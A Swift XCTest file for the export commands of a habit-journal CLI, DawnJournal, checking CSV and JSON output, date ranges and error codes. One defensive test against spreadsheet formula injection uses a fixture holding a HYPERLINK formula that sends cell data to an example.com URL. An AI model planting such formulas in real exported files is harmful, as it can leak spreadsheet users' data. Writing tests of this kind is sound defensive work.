import DawnJournal
import Foundation
import XCTest

@testable import DawnJournalCLI

/// `dawn-journal export csv` and `export json`.
final class ExportCommandTests: XCTestCase {
    func journal() throws -> CLIHarness {
        let h = try CLIHarness()
        try h.write(
            "habits.toml",
            """
            [habits.read]
            name = "Read, slowly"
            duration = "30m"

            [habits.water]
            name = "Drink Water"
            unit = "glasses"

            """)
        try h.write(
            "days/2026/2026-11-20.md",
            "## Timeline\n- 23:30-24:30 Read, slowly -- \"great\" book\n## Checklist\n- [x] water +3\n- [-] Juggle\n")
        try h.write("days/2026/2026-11-19.md", "## Checklist\n- [y] read\n- [x] Drink Water +1 glass\n")
        return h
    }

    func testCSVToStandardOutput() throws {
        let h = try journal()
        defer { h.remove() }
        let r = h.run(["export", "csv"])
        XCTAssertEqual(r.code, 0, r.stderr)
        XCTAssertEqual(
            r.stdout,
            #"""
            date,habit,name,state,start,end,minutes,amount,unit,note
            2026-11-19,water,Drink Water,done,,,,1,glasses,
            2026-11-20,read,"Read, slowly",done,23:30,24:30,60,,,"""great"" book"
            2026-11-20,water,Drink Water,done,,,,3,glasses,
            2026-11-20,Juggle,Juggle,skipped,,,,,,

            """#)
        XCTAssertEqual(
            r.stderr,
            "Warning: 1 line in days/2026/2026-11-19.md was not understood and is left out; see 'dawn-journal lint'\n")
    }

    func testCSVRange() throws {
        let h = try journal()
        defer { h.remove() }
        // The harness's today is 2026-11-21.
        XCTAssertEqual(h.run(["export", "csv", "--from", "-1"]).stdout.split(separator: "\n").count, 4)
        XCTAssertEqual(h.run(["export", "csv", "--to", "2026-11-19"]).stdout.split(separator: "\n").count, 2)
        XCTAssertEqual(
            h.run(["export", "csv", "--from=2026-11-21"]).stdout,
            "date,habit,name,state,start,end,minutes,amount,unit,note\n")
        let bad = h.run(["export", "csv", "--from", "today", "--to", "yesterday"])
        XCTAssertEqual(bad.code, 64)
        XCTAssertTrue(bad.stderr.contains("comes after the last"), bad.stderr)
        let notADate = h.run(["export", "csv", "--to", "soon"])
        XCTAssertEqual(notADate.code, 64)
        XCTAssertTrue(notADate.stderr.contains("'soon' is not a date"), notADate.stderr)
    }

    func testJSONDocument() throws {
        let h = try journal()
        defer { h.remove() }
        let r = h.run(["export", "json"])
        XCTAssertEqual(r.code, 0, r.stderr)
        let doc = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any])
        XCTAssertEqual(doc["format"] as? String, "1.4")
        XCTAssertEqual((doc["habits"] as? [[String: Any]])?.map { $0["id"] as? String }, ["read", "water"])
        let days = try XCTUnwrap(doc["days"] as? [[String: Any]])
        XCTAssertEqual(days.map { $0["date"] as? String }, ["2026-11-19", "2026-11-20"])
        XCTAssertEqual((days[1]["checklist"] as? [[String: Any]])?.count, 2)
        XCTAssertEqual(doc["problems"] as? Int, 1)
        XCTAssertTrue(r.stderr.contains("1 line in days/2026/2026-11-19.md"), r.stderr)
    }

    func testTheGroupAndTheJournalOption() throws {
        let h = try journal()
        defer { h.remove() }
        let help = h.run(["export"])
        XCTAssertEqual(help.code, 0)
        XCTAssertTrue(help.stdout.contains("csv") && help.stdout.contains("json"), help.stdout)
        let elsewhere = try CLIHarness()
        defer { elsewhere.remove() }
        let r = elsewhere.run(["--journal", h.root.path, "export", "csv"])
        XCTAssertEqual(r.code, 0, r.stderr)
        XCTAssertEqual(r.stdout.split(separator: "\n").count, 5)
        XCTAssertEqual(elsewhere.run(["export", "csv"]).code, 1, "no journal here")
        XCTAssertEqual(h.run(["export", "xml"]).code, 64)
    }

    func testDemoExportCountsEveryLine() throws {
        let h = try CLIHarness()
        defer { h.remove() }
        let demo = SampleJournalTests.demo.path
        let csv = h.run(["export", "csv", "--journal", demo])
        XCTAssertEqual(csv.code, 0, csv.stderr)
        XCTAssertEqual(csv.stderr, "")
        var lines = 0
        var files = 0
        for rel in try FolderStorage(root: demo).dayFilePaths() where DayPath(rel).isDayFile {
            files += 1
            let text = try String(contentsOfFile: demo + "/" + rel, encoding: .utf8)
            lines +=
                text.split(separator: "\n").filter {
                    $0.hasPrefix("- [") || ($0.hasPrefix("- ") && $0.dropFirst(2).first?.isNumber == true)
                }.count
        }
        XCTAssertEqual(csv.stdout.split(separator: "\n").count, lines + 1)
        let json = h.run(["export", "json", "--journal", demo])
        let doc = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
        XCTAssertEqual((doc["days"] as? [Any])?.count, files)
    }
}

extension ExportCommandTests {
    /// A field a spreadsheet would run as a formula gets a `'` in front (OWASP, CWE-1236);
    /// `--raw` writes it as it is.
    func testCSVKeepsFormulasOutOfSpreadsheets() throws {
        let h = try CLIHarness()
        defer { h.remove() }
        try h.write("habits.toml", "[habits.read]\nname = \"@Read\"\n\n[habits.walk]\nname = \"+Walk\"\n")
        try h.write(
            "days/2026/2026-11-20.md",
            """
            ## Checklist

            - [x] @Read -- =HYPERLINK("http://example.com/?"&A1,"open")
            - [x] +Walk -- -2 blocks
            - [ ] Plain -- a note, with = inside

            """)
        let r = h.run(["export", "csv"])
        XCTAssertEqual(r.code, 0, r.stderr)
        XCTAssertEqual(
            r.stdout,
            #"""
            date,habit,name,state,start,end,minutes,amount,unit,note
            2026-11-20,read,'@Read,done,,,,,,"'=HYPERLINK(""http://example.com/?""&A1,""open"")"
            2026-11-20,walk,'+Walk,done,,,,,,'-2 blocks
            2026-11-20,Plain,Plain,not-done,,,,,,"a note, with = inside"

            """#)
        let raw = h.run(["export", "csv", "--raw"])
        XCTAssertEqual(raw.code, 0, raw.stderr)
        XCTAssertTrue(raw.stdout.contains("2026-11-20,read,@Read,done,,,,,,\"=HYPERLINK("), raw.stdout)
        XCTAssertTrue(raw.stdout.contains(",+Walk,done,,,,,,-2 blocks\n"), raw.stdout)
    }
}
